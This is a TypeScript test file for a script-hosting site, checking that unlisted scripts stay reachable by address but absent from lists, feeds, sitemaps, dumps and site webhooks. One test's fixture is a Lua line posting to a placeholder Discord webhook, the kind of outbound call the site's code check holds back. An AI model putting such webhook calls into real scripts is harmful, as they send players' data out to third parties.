import { gunzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { DUMP_KIND_NAMES } from '#contract/dumps.ts'
import type { ScriptList } from '#contract/catalogue.ts'
import type { Script } from '#contract/scripts.ts'
import { copyStatement } from '#server/operations/dumps/rows.ts'
import { createTestApp, type TestApp } from '#tests/support/app.ts'
import { makeWebhook } from '#tests/support/webhooks.ts'
import { makeMember, signIn } from '#tests/support/factories.ts'
import { signInModerator } from '#tests/support/releases.ts'
import { findInconsistencies, publish, sendChange, type SignedIn } from '#tests/support/scripts.ts'

const TITLE = 'Zanzibar lamp'
const GAME = '7007'

let site: TestApp
let author: SignedIn
let authorId: number
let other: SignedIn
let moderator: SignedIn
let unlisted: number
let listed: number

const get = (url: string, headers: SignedIn | Record<string, never> = {}) => site.app.inject({ url, headers })
const send = (method: 'POST' | 'PUT', url: string, headers: SignedIn, payload: object) =>
  site.app.inject({
    method,
    url,
    headers: { 'content-type': 'application/json', ...headers },
    payload: JSON.stringify(payload),
  })

beforeAll(async () => {
  site = await createTestApp()
  authorId = await makeMember(site.db, { slug: 'quiet', username: 'quiet' })
  author = await signIn(site.db, authorId)
  other = await signIn(site.db)
  moderator = await signInModerator(site)
  await send('POST', '/api/follows', other, { user_id: authorId })
  const fields = { tags: ['zanzitag'], is_universal: false, game_id: GAME, game_name: 'Zanzigame', title: TITLE }
  unlisted = await publish(site, author, { ...fields, is_unlisted: true })
  listed = await publish(site, author, { title: 'Visible lamp', tags: ['lamptag'], script_content: 'return 2' })
  await site.app.ready()
})
const checkConsistency = async () => {
  expect(await findInconsistencies(site.db)).toEqual([])
}
afterAll(async () => {
  await checkConsistency()
  await site.close()
})

describe('an unlisted script is reachable by its address:', () => {
  test.each([
    ['the page', () => `/api/script-details-slug?slug=zanzibar-lamp-${unlisted}`],
    ['the stable API', () => `/api/v1/scripts/zanzibar-lamp-${unlisted}`],
    ['the raw code', () => `/raw/zanzibar-lamp-${unlisted}`],
    ['the download', () => `/api/script-download?id=${unlisted}`],
    ['the versions', () => `/api/script-versions?id=${unlisted}`],
    ['the behavior', () => `/api/script-behavior?id=${unlisted}`],
    ['the reviews', () => `/api/script-rating?id=${unlisted}`],
    ['the comments', () => `/api/script-comments?id=${unlisted}`],
    ['the embed', () => `/embed/zanzibar-lamp-${unlisted}`],
    ['a badge', () => `/badge/zanzibar-lamp-${unlisted}/downloads.svg`],
    [
      'oEmbed',
      () => `/api/oembed?url=${encodeURIComponent(`${site.config.publicUrl}/scripts/zanzibar-lamp-${unlisted}`)}`,
    ],
  ])('%s', async (_name, url) => {
    expect((await get(url())).statusCode).toBe(200)
  })

  test('members rate, comment, save, watch and report it', async () => {
    const calls: [url: string, body: object][] = [
      [`/api/script-rating?id=${unlisted}`, { rating: 5 }],
      [`/api/script-comments?id=${unlisted}`, { text: 'Works.' }],
      ['/api/favorites', { script_id: unlisted }],
      ['/api/watches', { script_id: unlisted }],
      ['/api/reports', { subject_type: 'script', subject_id: unlisted, reason: 'other', text: 'Looks odd.' }],
    ]
    for (const [url, body] of calls) {
      const response = await send('POST', url, other, body)
      expect([url, response.statusCode < 300, response.payload]).toEqual([url, true, response.payload])
    }
    expect((await get('/api/favorites', other)).payload).toContain(TITLE)
  })
})

describe('an unlisted script is absent from', () => {
  test.each([
    ['the list', () => '/api/scripts?limit=100'],
    ['the stable list', () => '/api/v1/scripts?limit=100'],
    ['the list for its author', () => '/api/scripts?public=true&limit=100', () => author],
    ['a search', () => '/api/scripts?search=zanzibar'],
    ['the list of a tag', () => '/api/scripts?tags=zanzitag'],
    ['the list of its author', () => `/api/scripts?author=${authorId}`],
    ['the list of its game', () => `/api/scripts?game=${GAME}`],
    ['its game', () => `/api/game?id=${GAME}`],
    ['the popular scripts', () => '/api/scripts?sort=trending&limit=100'],
    ['suggestions', () => '/api/search-suggestions?q=zanzi'],
    ['suggestions of browsers', () => '/api/opensearch-suggestions?q=lamp'],
    ['the tags', () => '/api/script-tags'],
    ['facets', () => '/api/script-facets'],
    ['related scripts', () => `/api/related-scripts?id=${listed}`],
    ['the feed', () => '/feeds/scripts.json'],
    ['the feed of its author', () => `/feeds/scripts.atom?author=${authorId}`],
    ['the feed of its versions', () => `/feeds/versions.json?id=${unlisted}`],
    ['the withdrawn versions', () => '/feeds/withdrawn.json'],
    ['the profile', () => '/api/user-profiles?user_id=quiet'],
    ['the showcases', () => '/api/scripts?showcased=true'],
    ['the notifications of followers', () => '/api/user-notifications', () => other],
  ] as [string, () => string, (() => SignedIn)?][])('%s', async (_name, url, caller) => {
    const { payload } = await get(url(), caller?.())
    expect(payload.replaceAll(/"(search|id|feed_url|home_page_url)":"[^"]*"/g, '').toLowerCase()).not.toContain('zanzi')
  })

  test('the sitemap', async () => {
    const index = (await get('/sitemap.xml')).body
    expect(index).not.toContain('games-')
    const { rawPayload } = await get('/sitemap/scripts-1.xml.gz')
    const urls = gunzipSync(rawPayload).toString()
    expect([urls.includes('visible-lamp'), urls.includes('zanzibar')]).toEqual([true, false])
  })

  test('the dump', async () => {
    let texts = ''
    for (const kind of DUMP_KIND_NAMES) {
      const statement = copyStatement(site.db, kind)
      const query = statement.slice('copy ('.length, statement.lastIndexOf(') to stdout'))
      texts += JSON.stringify((await site.pool.query(query)).rows)
    }
    expect([texts.includes('Visible lamp'), texts.toLowerCase().includes('zanzibar')]).toEqual([true, false])
  })

  test('collections of others, but not of its author', async () => {
    const collect = async (headers: SignedIn) => {
      const created = await send('POST', '/api/collections', headers, {
        name: 'Lamps',
        is_public: true,
        script_id: unlisted,
      })
      return created.json<{ collection: { slug: string } }>().collection.slug
    }
    const [own, foreign] = [await collect(author), await collect(other)]
    const shows = async (slug: string, headers?: SignedIn) =>
      (await get(`/api/collection?slug=${slug}&page=1`, headers)).payload.includes(TITLE)
    expect([await shows(own), await shows(own, author), await shows(own, other)]).toEqual([false, true, false])
    expect([await shows(foreign), await shows(foreign, other), await shows(foreign, author)]).toEqual([
      false,
      true,
      true,
    ])
  })

  test('the counts of its author, except for the author', async () => {
    const count = async (headers?: SignedIn) =>
      (await get('/api/user-profiles?user_id=quiet', headers)).json<{
        profile: { script_stats: { scripts_uploaded: number } }
      }>().profile.script_stats.scripts_uploaded
    expect([await count(), await count(author)]).toEqual([1, 2])
  })
})

test('its author and admins find it in their lists, marked', async () => {
  const { scripts } = (await get(`/api/scripts?author=${authorId}`, author)).json<ScriptList>()
  expect(scripts.map(({ title, is_public, is_unlisted }) => ({ title, is_public, is_unlisted }))).toEqual([
    { title: 'Visible lamp', is_public: true, is_unlisted: false },
    { title: TITLE, is_public: true, is_unlisted: true },
  ])
  const page = await get(`/api/script-details-slug?slug=zanzibar-lamp-${unlisted}`, moderator)
  expect(page.json<{ script: Script }>().script).toMatchObject({ is_unlisted: true, is_public: true })
})

test('a client that does not know of unlisted scripts leaves one unlisted', async () => {
  const id = await publish(site, author, { title: 'Odd', script_content: 'return 3', is_unlisted: true })
  await sendChange(site, author, id, { title: 'Odd lamp', is_public: true })
  expect((await get('/api/scripts?search=odd')).json<ScriptList>().scripts).toEqual([])
})

test('a private script is not made reachable by being unlisted', async () => {
  const id = await publish(site, author, {
    title: 'Secret',
    script_content: 'return 4',
    is_public: false,
    is_unlisted: true,
  })
  expect((await get(`/raw/secret-${id}`)).statusCode).toBe(404)
})

test('followers learn of a script once, when it becomes listed, and it appears in lists at once', async () => {
  const id = await publish(site, author, { title: 'Late bloomer', script_content: 'return 5', is_unlisted: true })
  const isAnnounced = async () => (await get('/api/user-notifications', other)).payload.split('Late bloomer').length > 1
  const isFound = async () => (await get('/api/scripts?search=bloomer')).json<ScriptList>().pagination.total === 1
  expect([await isAnnounced(), await isFound()]).toEqual([false, false])
  await sendChange(site, author, id, { is_unlisted: false })
  expect([await isAnnounced(), await isFound()]).toEqual([true, true])
  await sendChange(site, author, id, { is_unlisted: true })
  expect([await isAnnounced(), await isFound()]).toEqual([false, false])
})

test('the code of an unlisted script is checked, and waits, as that of a public one', async () => {
  const id = await publish(site, author, { title: 'Checked', script_content: 'return 6', is_unlisted: true })
  const script_content = `game:GetService("HttpService"):PostAsync("https://discord.com/api/webhooks/1/a", "{}")\n`
  await sendChange(site, author, id, { script_content, version: '2.0.0' })
  const { rows } = await site.pool.query('select state from script_versions where script_id = $1 order by number', [id])
  expect(rows).toEqual([{ state: 'published' }, { state: 'held' }])
  expect((await get(`/raw/checked-${id}`)).body).toBe('return 6')
})

test('webhooks of the site do not hear of it, those of its author do', async () => {
  const siteHook = await makeWebhook(site.db)
  const ownHook = await makeWebhook(site.db, { owner_id: authorId })
  await publish(site, author, { title: 'Hooked', script_content: 'return 7', is_unlisted: true })
  const { rows } = await site.pool.query<{ webhook_id: number }>(
    `select d.webhook_id from webhook_deliveries d join webhook_events e on e.id = d.event_id
      where e.body::text like '%Hooked%'`,
  )
  expect(rows).toEqual([{ webhook_id: ownHook.id }])
  expect(siteHook.id).not.toBe(ownHook.id)
})
